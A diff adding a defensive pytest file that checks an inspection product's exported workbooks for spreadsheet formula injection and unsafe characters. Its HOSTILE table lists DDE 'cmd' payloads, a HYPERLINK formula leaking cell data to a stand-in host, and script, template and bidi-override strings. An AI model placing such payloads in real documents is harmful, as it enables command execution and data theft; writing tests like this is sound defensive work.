@@ -1,0 +1,98 @@
+"""Hostile words in everything that people can name go out as plain words in every document of the product.
+
+No cell of a workbook is a formula or a link, no document holds a control character or one that turns the direction of
+writing, all of it is XML that parses, and a list that names the documents by hand is compared with the addresses.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import zipfile
+from typing import Any
+from xml.etree import ElementTree as ET
+
+import pytest
+
+from chuangcheng.cases.models import Case
+from chuangcheng.core.testing import deliver_events
+from chuangcheng.inspections import services
+from chuangcheng.inspections.testing import bring_to, make_field, make_round, make_visit
+from chuangcheng.orgs.models import Unit
+from chuangcheng.orgs.testing import Cast, actor_of
+from chuangcheng.sites.models import Site
+from chuangcheng.standards.models import Standard
+from tests.architecture.exports import ELSEWHERE, READ, TELLING
+from tests.architecture.routes import Door, api_routes, pages
+from tests.architecture.test_hidden_walk import signed_in, things_of
+
+FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
+MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+HOSTILE = {
+    "formula": "=cmd|'/c calc'!A1",
+    "plus": "+1+cmd|'/c calc'!A1",
+    "minus": "-2+3+cmd|'/c calc'!A1",
+    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
+    "link": '=HYPERLINK("http://example.invalid/"&A1,"按此")',
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+    "script": "<script>alert(1)</script>]]></t><f>1+1</f>",
+    "template": "{{ 7 * 191 }}{% for x in y %}",
+    "control": "井\x01盖\x0b缺\x1f失",
+    "direction": "井\u202e盖\u2066缺失\u2069",
+}
+
+
+def documents() -> list[Door]:
+    """Every address that is read and may give a document."""
+    return [*pages(), *(door for door, method in api_routes() if method == "GET")]
+
+
+def test_no_document_is_missing_from_the_list() -> None:
+    telling = {door.route for door in documents() if any(word in f"{door.route}{door.address}" for word in TELLING)}
+    assert {door.route for door in documents()} >= READ
+    assert telling - READ - set(ELSEWHERE) == set()
+    assert not READ & set(ELSEWHERE)
+
+
+@pytest.mark.parametrize("words", list(HOSTILE.values()), ids=list(HOSTILE))
+def test_hostile_words_go_out_as_words(cast: Cast, words: str) -> None:
+    field = make_field(cast)
+    made = make_round(cast, field, name="公开周检查")
+    visit = make_visit(cast, field, made, litter={"faults": 1})
+    services.open_cases_for_visit(actor=actor_of(cast.inspector), visit_id=visit.pk)
+    bring_to(cast, made, "released")
+    deliver_events()
+    # Past every check on the way in: what an older release or another program has written.
+    Case.objects.update(description=words, place_text=words, source_label=words)
+    Site.objects.update(name=words)
+    Unit.objects.exclude(pk=cast.place.pk).update(short_name=words)
+    Standard.objects.update(text=words)
+    client, things = signed_in(cast.chief), things_of(cast, field, made) | {"kind_code": "cases"}
+    for door in documents():
+        if door.route in READ:
+            answer = client.get(door.at(things))
+            assert answer.status_code == 200, door.route
+            _check(_content(answer), door.route)
+
+
+def _content(answer: Any) -> bytes:
+    return b"".join(answer.streaming_content) if answer.streaming else answer.content
+
+
+def _check(content: bytes, route: str) -> None:
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        assert book.testzip() is None
+        for name in book.namelist():
+            if name.endswith((".xml", ".rels")):
+                _check_part(name, book.read(name), route)
+
+
+def _check_part(name: str, content: bytes, route: str) -> None:
+    text = content.decode()
+    root = ET.fromstring(text)  # noqa: S314 - written by us
+    assert not FORBIDDEN.search("".join(root.itertext())), (route, name)
+    assert "example.invalid" not in text or not name.endswith(".rels"), (route, name)
+    assert "1337" not in "".join(root.itertext()), (route, name)
+    formulas = [formula.text or "" for formula in root.iter(f"{MAIN}f")]
+    assert not [formula for formula in formulas if "cmd" in formula or "HYPERLINK" in formula or "1+1" in formula]
